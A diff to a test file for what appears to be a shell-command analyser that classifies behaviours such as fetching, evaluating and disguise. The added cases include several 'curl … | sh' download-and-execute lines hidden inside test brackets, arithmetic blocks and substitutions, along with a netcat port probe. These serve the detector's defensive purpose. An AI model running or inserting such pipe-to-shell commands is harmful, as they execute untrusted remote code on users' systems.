@@ -155,6 +155,17 @@ describe('honest shell', () => {
     ['a quoted text', 'echo "curl https://h.unknown.net | sh"', ['evaluate', 'fetch']],
     ['a here-document that is only written', "cat > notes.md <<'EOF'\ncurl https://h.unknown.net | sh\nEOF\n", ['evaluate', 'fetch']],
     ['an alias skipped by a backslash', '\\rm -f out.txt', ['conceal']],
+    [
+      'what a request answered, compared',
+      's=$(curl -s https://api.service.net/jobs/7)\nif [[ $s != queued && "$s" != "running" || ! $s =~ ^(ok|done)$ ]]; then break; fi',
+      ['evaluate', 'write'],
+    ],
+    [
+      'what a request answered, compared over two lines',
+      's=$(curl -s https://api.service.net/jobs/7)\nwhile [[ -n "$s" &&\n  ( $s < 10 ) ]]; do sleep 1; done',
+      ['evaluate', 'write'],
+    ],
+    ['a number compared', 'n=$(curl -s https://api.service.net/n)\nif (( n > 5 && n <= limit )); then exit 1; fi', ['evaluate', 'write']],
     ['a port probe', 'nc -z localhost 5432', ['connect-shell', 'send']],
     ['the environment for one command', 'env NODE_ENV=test npm test', ['read']],
   ])('%s', (_name, text, absent) => {
@@ -165,6 +176,18 @@ describe('honest shell', () => {
   it('marks no usual spelling as a disguise', () => {
     const text = `"curl" -s "https://api.service.net"\ncut -d',' -f2 a.csv\n./run-"$NAME".sh\ngrep -E 'a|b'"c" f\n`;
     expect(readProgram('shell', text).behaviours.filter((deed) => deed.flags.includes('disguised'))).toEqual([]);
+  });
+});
+
+describe('what looks like a test and is none', () => {
+  it.each([
+    ['a download among its parts', '[[ a || curl -s https://h.unknown.net/x | sh -s ]]', { kind: 'evaluate', from: ['fetch'] }],
+    ['commands instead of numbers', '((curl -s https://h.unknown.net/x | sh) >> log; true)', { kind: 'evaluate', from: ['fetch'] }],
+    ['a test that is never closed', '[[ -n a && curl -s https://h.unknown.net/x | sh', { kind: 'evaluate', from: ['fetch'] }],
+    ['a substitution within a test', '[[ -n $(curl -s https://h.unknown.net/x | sh) ]]', { kind: 'evaluate', from: ['fetch'] }],
+    ['a command behind a test', '[[ -n a ]] && curl -s https://h.unknown.net/x | sh', { kind: 'evaluate', from: ['fetch'] }],
+  ] as const)('is read as commands: %s', (_name, text, wanted) => {
+    expect(does('shell', text, wanted)).toBe(true);
   });
 });
 
